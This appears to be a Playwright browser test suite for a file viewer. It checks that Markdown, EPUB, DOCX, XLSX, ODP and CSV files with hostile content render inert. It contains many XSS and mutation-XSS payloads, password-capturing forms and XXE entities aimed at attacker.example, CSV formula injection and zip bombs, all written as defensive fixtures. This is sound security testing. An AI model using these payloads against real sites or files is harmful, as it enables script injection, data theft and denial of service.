// Documents that try to run scripts, load resources, navigate the page or capture input. Each must show its text and do nothing. See
// docs/operate/security.md.
import { expect } from 'bun:test'
import { basename } from 'node:path'
import type { Page, Request } from 'playwright-core'
import { docx, epub, odp, paragraph, xlsx, zip } from './document-files.ts'
import { item } from './file-listing.ts'
import { type BrowserTestContext, setUpBrowserTests } from './harness.ts'

const { test } = setUpBrowserTests()

/** Script that leaves a mark when it runs. */
const RUN = 'window.ran=1;top.ran=1;parent.ran=1'
const AWAY = 'http://attacker.example'

/** Harmful markup, for every format that accepts markup. `marker` must be visible. */
const HARM: Readonly<Record<string, string>> = {
  script: `<script>${RUN}</script><SCRIPT SRC="${AWAY}/s.js"></SCRIPT><scr<script>ipt>${RUN}</script>`,
  handlers: `<img src="x" onerror="${RUN}"><b onmouseover="${RUN}" onfocus="${RUN}" tabindex="0" autofocus>b</b><details open ontoggle="${RUN}"><summary>s</summary>d</details>`,
  'svg and math': `<svg onload="${RUN}"><script>${RUN}</script><animate onbegin="${RUN}" attributeName="x" dur="1s"/><a xlink:href="javascript:${RUN}"><text>t</text></a></svg><math><mtext><table><mglyph><style><img src="x" onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  mutation: `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}"></style></mglyph></form><noscript><p title="</noscript><img src=x onerror=${RUN}>">n</p></noscript>`,
  'script links': `<a id="js" href="javascript:${RUN}">js</a><a href=" &#106;ava&#09;script:${RUN}">js</a><a href="data:text/html,<script>${RUN}</script>">data</a><a href="vbscript:x">vb</a><a href="//attacker.example/">host</a><a href="/\\attacker.example/">host</a>`,
  frames: `<iframe src="${AWAY}/f"></iframe><iframe srcdoc="<script>${RUN}</script>"></iframe><object data="${AWAY}/o"></object><embed src="${AWAY}/e"><frameset><frame src="${AWAY}/fr"></frameset><portal src="${AWAY}/p"></portal>`,
  'other hosts': `<img src="${AWAY}/i.png" alt="far"><img srcset="${AWAY}/s.png 1x"><picture><source srcset="${AWAY}/p.png"><img src="//attacker.example/n.png"></picture><video src="${AWAY}/v" poster="${AWAY}/po" autoplay></video><audio src="${AWAY}/a" autoplay></audio><input type="image" src="${AWAY}/in"><body background="${AWAY}/bg"><table background="${AWAY}/tb"><tr><td background="${AWAY}/td">t</td></tr></table>`,
  styles: `<style>@import "${AWAY}/c.css";*{display:none!important;background:url(${AWAY}/b.png)}</style><link rel="stylesheet" href="${AWAY}/l.css"><link rel="prefetch" href="${AWAY}/pre"><p style="position:fixed;inset:0;background:url(${AWAY}/st.png)">st</p><p title='x' style = 'color:red'>sq</p><div/style="color:red">sl</div>`,
  forms: `<form id="f" action="${AWAY}/post" method="post"><input name="password" type="password"><button id="send" formaction="${AWAY}/fa">send</button></form><button form="f">outside</button><isindex action="${AWAY}/i"><textarea>t</textarea><select><option>o</option></select>`,
  'the document': `<base href="${AWAY}/"><meta http-equiv="refresh" content="0;url=${AWAY}/r"><title>taken over</title><html manifest="${AWAY}/m"><template><script>${RUN}</script></template><dialog open>d</dialog><p contenteditable>c</p>`,
  'names of the page': `<a id="app" name="app">x</a><img name="body" src="x"><form name="forms"><input name="attributes"></form><p class="visually-hidden" slot="x" is="y" id="__proto__">k</p>`,
  comments: `<!--[if IE]><script>${RUN}</script><![endif]--><!-- --!><img src=x onerror="${RUN}"> --><![CDATA[<script>${RUN}</script>]]>`,
  endless: `<div>\n<${'a'.repeat(200_000)}\n</div><p><a${' '.repeat(100_000)}<b>e</b></p>`,
  pings: `<a href="https://attacker.example/" ping="${AWAY}/ping" target="_top" rel="opener">ping</a><area href="${AWAY}/area"><map name="m"><area href="${AWAY}/a2"></map>`,
}

/** Actions of the page other than showing the file. */
interface Watch {
  readonly requests: Request[]
  readonly left: string[]
}

function watch(page: Page, stage: BrowserTestContext, seen: Watch): void {
  const own = new URL(stage.program.url).host
  page.context().on('request', (request) => {
    const { protocol, host, pathname } = new URL(request.url())
    // The page itself renews its session, and reports the file as opened; no other request is sent from here.
    const isOwn = pathname === '/api/renew' || (request.method() === 'POST' && pathname === '/api/recent')
    const foreign = host !== own || (request.method() !== 'GET' && !isOwn)
    if (/^https?:$/.test(protocol) && foreign) seen.requests.push(request)
  })
  page.context().on('page', (other) => seen.left.push(`opened ${other.url()}`))
  page.on('framenavigated', (frame) => frame !== page.mainFrame() && seen.left.push(`frame ${frame.url()}`))
  page.on('dialog', (dialog) => {
    seen.left.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
}

/** Hovers over and clicks every element of the document, except links that lead elsewhere; then returns the effects. */
async function provoke(page: Page): Promise<unknown> {
  return page.evaluate(async () => {
    const root = document.querySelector('main')
    for (const element of root?.querySelectorAll<HTMLElement>('article *') ?? []) {
      element.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }))
      if (!element.closest('a[href]')) element.click()
      if (element.closest('a[href^="#"], a[href*="script"], a[href^="data"]')) element.click()
    }
    // Time is what is tested: catches scripts and requests that start later, too.
    await new Promise((rested) => setTimeout(rested, 300))
    const banned =
      'script, iframe, frame, object, embed, form, input:not([type=search], [type=checkbox], [type=radio]), textarea, style, link, base, meta, template, svg script, video, audio, dialog, [style*=url], [srcset], [ping], [formaction], [contenteditable], .visually-hidden'
    const article = root?.querySelector('article')
    const names = [...(article?.querySelectorAll('*') ?? [])].flatMap((element) => element.getAttributeNames())
    return {
      ran: 'ran' in window,
      elements: [...(article?.querySelectorAll(banned) ?? [])].map((element) => element.outerHTML.slice(0, 80)),
      handlers: names.filter((name) => name.startsWith('on')),
      ids: [...(article?.querySelectorAll('[id]') ?? [])]
        .map(({ id }) => id)
        .filter((id) => !id.startsWith('user-content-')),
      schemes: [...(article?.querySelectorAll('a[href]') ?? [])]
        .map((link) => link.getAttribute('href') ?? '')
        .filter((href) => !/^(?:#user-content-|https:\/\/attacker\.example\/$|\/files\/)/.test(href)),
      titled: document.title.includes('taken'),
    }
  })
}

const INERT = { ran: false, elements: [], handlers: [], ids: [], schemes: [], titled: false }

async function expectInert(
  stage: BrowserTestContext,
  path: string,
  show: (page: Page) => Promise<unknown>,
): Promise<void> {
  await expectAllInert(stage, [path], show)
}

/** Opens files of one folder one after another, in one page. */
async function expectAllInert(
  stage: BrowserTestContext,
  paths: readonly string[],
  show: (page: Page, index: number) => Promise<unknown>,
): Promise<void> {
  const seen: Watch = { requests: [], left: [] }
  const page = await stage.signIn({
    at: `/files${encodeURI(paths[0] ?? '')}`,
    before: (opened) => watch(opened, stage, seen),
  })
  for (const [index, path] of paths.entries()) {
    if (index > 0) {
      await page.getByRole('button', { name: 'Close', exact: true }).click()
      await item(page, basename(path)).dblclick()
    }
    await page.waitForURL(stage.program.url + encodeURI(`/files${path}`))
    await show(page, index)
    const address = page.url()
    expect(await provoke(page), path).toEqual(INERT)
    expect(page.url().replace(/#.*/, ''), path).toBe(address)
    expect(
      seen.requests.map((request) => request.url()),
      path,
    ).toEqual([])
    expect(seen.left, path).toEqual([])
  }
}

const renderedWith = async (page: Page, words: string) => {
  await page.getByRole('button', { name: /^Show (?:rendered|as table)$/ }).click()
  await page.getByText(words, { exact: true }).first().waitFor()
}
const rendered = async (page: Page) => {
  await page.getByRole('button', { name: /^Show (?:rendered|as table)$/ }).click()
  await page.getByText('marker').first().waitFor()
}
const shown = (page: Page) => page.getByText('marker').first().waitFor()

/** Returns a unique marker for each document, so that none is mistaken for the one before. */
const marker = (index: number) => `marker ${index}`

test(`Markdown: ${Object.keys(HARM).join(', ')}`, async (stage) => {
  stage.excuse(/status of 404/)
  const files = Object.entries(HARM).map(
    ([what, harm], index) => [`md/${index + 10} ${what}.md`, `${marker(index)}\n\n${harm}\n\nend`] as const,
  )
  await stage.program.plant(Object.fromEntries(files))
  await expectAllInert(
    stage,
    files.map(([path]) => `/${path}`),
    (page, index) => renderedWith(page, marker(index)),
  )
})

test(`books: ${Object.keys(HARM).join(', ')}`, async (stage) => {
  const files = Object.entries(HARM).map(
    ([what, harm], index) =>
      [`books/${index + 10} ${what}.epub`, epub([`<p>${marker(index)}</p>${harm}<p>end</p>`])] as const,
  )
  await stage.program.plant(Object.fromEntries(files))
  await expectAllInert(
    stage,
    files.map(([path]) => `/${path}`),
    (page, index) => page.getByText(marker(index), { exact: true }).first().waitFor(),
  )
})

const MARKDOWN: Readonly<Record<string, string>> = {
  links: `[a](javascript:${RUN}) [b](data:text/html;base64,PHNjcmlwdD4=) [c]( "x" onclick="${RUN}") <javascript:${RUN}> [d][e]\n\n[e]: javascript:${RUN}`,
  pictures: `![x](${AWAY}/i.png) ![x](javascript:${RUN}) ![" onerror="${RUN}](x.png) ![x](//attacker.example/i.png)`,
  code: `\`\`\`"><img src=x onerror=${RUN}>\n<script>${RUN}</script>\n\`\`\`\n\n\`<script>${RUN}</script>\``,
  tables: `| <img src=x onerror=${RUN}> | b |\n|---|---|\n| <script>${RUN}</script> | [x](javascript:${RUN}) |`,
}
test(`the signs of Markdown: ${Object.keys(MARKDOWN).join(', ')}`, async (stage) => {
  stage.excuse(/status of 404/)
  const files = Object.entries(MARKDOWN).map(
    ([what, text], index) => [`signs/${index} ${what}.md`, `${marker(index)}\n\n${text}`] as const,
  )
  await stage.program.plant(Object.fromEntries(files))
  await expectAllInert(
    stage,
    files.map(([path]) => `/${path}`),
    (page, index) => renderedWith(page, marker(index)),
  )
})

const WORDS = `marker <img src=x onerror="${RUN}"><script>${RUN}</script> =HYPERLINK("${AWAY}")`
const escaped = WORDS.replaceAll('&', '&amp;').replaceAll('<', '&lt;')
const external = `<Relationships><Relationship Id="r" TargetMode="External" Target="${AWAY}/t"/></Relationships>`
const FILES: Readonly<Record<string, string | Uint8Array>> = {
  'formulas.csv': `name,value\nmarker,"=cmd|' /C calc'!A0"\n@SUM(1),"${WORDS.replaceAll('"', '""')}"\n`,
  'words.docx': docx(paragraph(escaped), { 'word/_rels/document.xml.rels': external }),
  'entities.docx': zip({
    'word/document.xml': `<!DOCTYPE w:document [<!ENTITY x SYSTEM "${AWAY}/x"><!ENTITY % p SYSTEM "${AWAY}/p">]><w:document><w:body>${paragraph('marker &x;')}</w:body></w:document>`,
  }),
  'sheets.xlsx': xlsx({
    '&lt;img src=x onerror=top.ran=1>': [
      ['name', 'value'],
      ['marker', escaped],
    ],
  }),
  'slides.odp': odp(escaped),
}
for (const [name, file] of Object.entries(FILES)) {
  test(`${name}: words are words`, async (stage) => {
    await stage.program.plant({ [`words/${name}`]: file })
    await expectInert(stage, `/words/${name}`, name.endsWith('.csv') ? rendered : shown)
  })
}

test('a drawing in a book neither runs nor fetches', async (stage) => {
  const drawing = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="${RUN}"><script>${RUN}</script><image href="${AWAY}/i.png"/><rect width="9" height="9"/></svg>`
  await stage.program.plant({
    'drawing/a.epub': epub(['<p>marker</p><img src="d.svg" alt="d"/>'], { 'd.svg': drawing }),
  })
  await expectInert(stage, '/drawing/a.epub', (page) => page.getByRole('img', { name: 'd' }).waitFor())
})

test('archives that grow and texts without end are refused, and the page goes on', async (stage) => {
  const zeros = new Uint8Array(120 * 1024 * 1024)
  await stage.program.plant({
    'bombs/a.docx': zip({ 'word/document.xml': zeros }),
    'bombs/b.epub': zip({ 'META-INF/container.xml': zeros }),
    'bombs/c.odt': zip({ 'content.xml': '<a>'.repeat(200_000) }),
    'bombs/d.docx': zip(Object.fromEntries(Array.from({ length: 20_001 }, (_, n) => [String(n), '']))),
  })
  const page = await stage.signIn({ at: '/files/bombs/a.docx' })
  for (const next of [true, true, true, false]) {
    await page.getByText('This document is too large to display.').waitFor()
    if (next) await page.getByRole('button', { name: 'Next file' }).click()
  }
}, 180_000)

test('a text shown as text runs nothing', async (stage) => {
  await stage.program.plant({ 'plain/a.xyz': `marker ${HARM.handlers}${HARM.script}` })
  await expectInert(stage, '/plain/a.xyz', async (page) => {
    await page.getByRole('button', { name: 'Show as text' }).click()
    await shown(page)
  })
})
